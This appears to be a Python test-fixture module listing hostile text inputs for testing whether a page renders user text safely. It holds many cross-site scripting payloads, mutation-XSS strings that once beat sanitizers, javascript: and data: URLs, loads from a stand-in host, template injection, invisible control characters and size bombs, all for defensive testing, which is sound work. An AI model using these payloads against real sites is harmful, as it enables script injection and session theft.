r"""Texts that try to be more than text where a page shows them.

Each that is a script sets `top.__xss`; each that fetches, fetches from `ELSEWHERE`.
"""

from typing import NamedTuple

RAN = "top.__xss=1"
ELSEWHERE = "http://elsewhere.invalid"


class HostileText(NamedTuple):
    """One text."""

    text: str
    shown: str | None = None
    """What a page shows where that isn't the text: maths without delimiters, code without its fence."""


_AS_IT_IS = [
    # Scripts and handlers
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</textarea></title></style></noscript><script>{RAN}</script>",
    f"<SCRIPT/x src='{ELSEWHERE}/a.js'></SCRIPT >",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f'<img src=x onerror="{RAN}">',
    f"<img/src=x/onerror={RAN}//",
    f'"><img src=x onerror={RAN}>',
    f"' autofocus onfocus='{RAN}' x='",
    f'<svg onload="{RAN}"></svg>',
    f'<svg><animate onbegin="{RAN}" attributeName="x" dur="1s"></svg>',
    f"<svg><script>{RAN}</script></svg>",
    f'<details open ontoggle="{RAN}"><summary>s</summary></details>',
    f'<video src=x onerror="{RAN}"><source onerror="{RAN}"></video>',
    f'<body onload="{RAN}"><marquee onstart="{RAN}">m</marquee>',
    f'<input autofocus onfocus="{RAN}"><select autofocus onfocus="{RAN}">',
    # Frames, objects, and what changes the page itself
    f'<iframe srcdoc="<script>{RAN}</script>"></iframe>',
    f'<iframe src="javascript:{RAN}"></iframe>',
    f'<object data="javascript:{RAN}"></object><embed src="{ELSEWHERE}/e.swf">',
    f'<object data="data:text/html,<script>{RAN}</script>"></object>',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    f'<base href="{ELSEWHERE}/"><a href="x">a</a>',
    f'<form action="{ELSEWHERE}/"><button formaction="javascript:{RAN}">Submit</button></form>',
    f'<link rel="stylesheet" href="{ELSEWHERE}/a.css"><link rel=prefetch href="{ELSEWHERE}/p">',
    f'<style>@import "{ELSEWHERE}/b.css"; * {{ display: none; background: url({ELSEWHERE}/c) }}</style>',
    '<div style="position:fixed;inset:0;background:red;z-index:9999">covered</div>',
    f'<template><img src=x onerror="{RAN}"></template><dialog open>d</dialog>',
    '<a id="__nuxt" name="body"></a><form id="document"><input name="body"></form>',
    # What cleaners were once fooled by
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RAN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RAN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    f'<math href="javascript:{RAN}"><mi xlink:href="javascript:{RAN}">CLICK</mi></math>',
    f"<![CDATA[<script>{RAN}</script>]]>",
    f"<!--><img src=x onerror={RAN}>--><!-- <script>{RAN}</script> -->",
    f"<?xml version='1.0'?><!DOCTYPE html><x:script xmlns:x='http\\://a'>{RAN}</x:script>",
    f"&lt;script&gt;{RAN}&lt;/script&gt; &#60;img src=x onerror={RAN}&#62; &copy &notit; &amp;amp; &#x22;",
    f"%3Cscript%3E{RAN}%3C/script%3E \\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    # Markdown
    f"[click](javascript:{RAN}) [b]( <javascript:{RAN}> 'title')",
    f"![image]({ELSEWHERE}/i.png) ![]({ELSEWHERE}/j.png)",
    f'![x]({ELSEWHERE}/k.png"onerror="{RAN})',
    f"[ref][1] ![alt][1] [1]\n\n[1]: {ELSEWHERE}/ref.png 'title'\n[ref]: javascript:{RAN}",
    f"<javascript:{RAN}> <{ELSEWHERE}/auto> {ELSEWHERE}/bare www.elsewhere.invalid someone@elsewhere.invalid",
    f"[data](data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==) [v](vbscript:{RAN})",
    f"a\n```html\n<script>{RAN}</script>\nnever closed, and all below it would be code",
    f"a\n~~~\n<img src=x onerror={RAN}>\n~~~\nb",
    f"``` `` ` <img src=x onerror={RAN}> unbalanced",
    "# Submitted\n\n***\n\n> quoted\n\n- a list\n1. another\n\nheading\n=====",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\na | b\n- | :-:",
    "*2*3*4* __a__ ~~gone~~ snake_case _x_ ***",
    "    indented\n\tas code\n\n      <b>deep</b>",
    "**Step 2:** a step inside a step\n\n**Step 3** and more",
    # Maths
    f"$\\href{{javascript:{RAN}}}{{x}}$ $\\url{{javascript:{RAN}}}$",
    f"$$\\includegraphics[height=9em]{{{ELSEWHERE}/m.png}}$$",
    "$\\htmlData{x=y}{a} \\htmlStyle{position: fixed}{b} \\htmlClass{c}{d}$",
    "$\\color{white}{hidden}$ $\\phantom{gone}$ $7 % not shown$ $\\rule{500em}{500em}$ $\\def\\x{\\x\\x}\\x$",
    "an open $ and $$ and \\( and \\[ and \\begin{align} that nothing closes",
    "$5 and $6 or 7$, $ 8 and US$9",
    "$" + "{" * 400 + "x" + "}" * 400 + "$",
    "\\(" * 300,
    # Templates
    f"{{{{ constructor.constructor('{RAN}')() }}}} ${{{RAN}}} {{% raw %}} <%= {RAN} %> #{{{RAN}}} v-html='x'",
    # What can't be seen
    "safe\u202etxt.exe\u202c \u2066isolated\u2069 \u061c\u200e\u200f",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff soft\u00adhyphen filler\u3164 tag\U000e0041",
    "nul\x00 escape\x1b[31m bell\x07 delete\x7f next\x85 form\x0c lines\u2028\u2029 own\u200a\u2009 ␀␛",
    "names ⟨U+202E⟩ and ⟨U+0041⟩ that nobody made",
    "z" + "\u0301\u0336" * 40,
    # Size
    "<b>" * 500 + "deep" + "</b>" * 500,
    "> " * 500 + "deeper",
    "[" * 500 + "a" + "](b)" * 500,
    "x" * 20_000,
    "* _ < & [ ] ~ ! # | > " * 400,
]

HOSTILE_TEXTS = [
    *(HostileText(text) for text in _AS_IT_IS),
    HostileText(
        f"a\n```html\n<script>{RAN}</script>\n```\nb `<img src=x onerror={RAN}>`",
        f"a\n<script>{RAN}</script>\nb <img src=x onerror={RAN}>",
    ),
    HostileText("**bold:** 2**3**4 **<b>**", "bold: 2**3**4 **<b>**"),
]
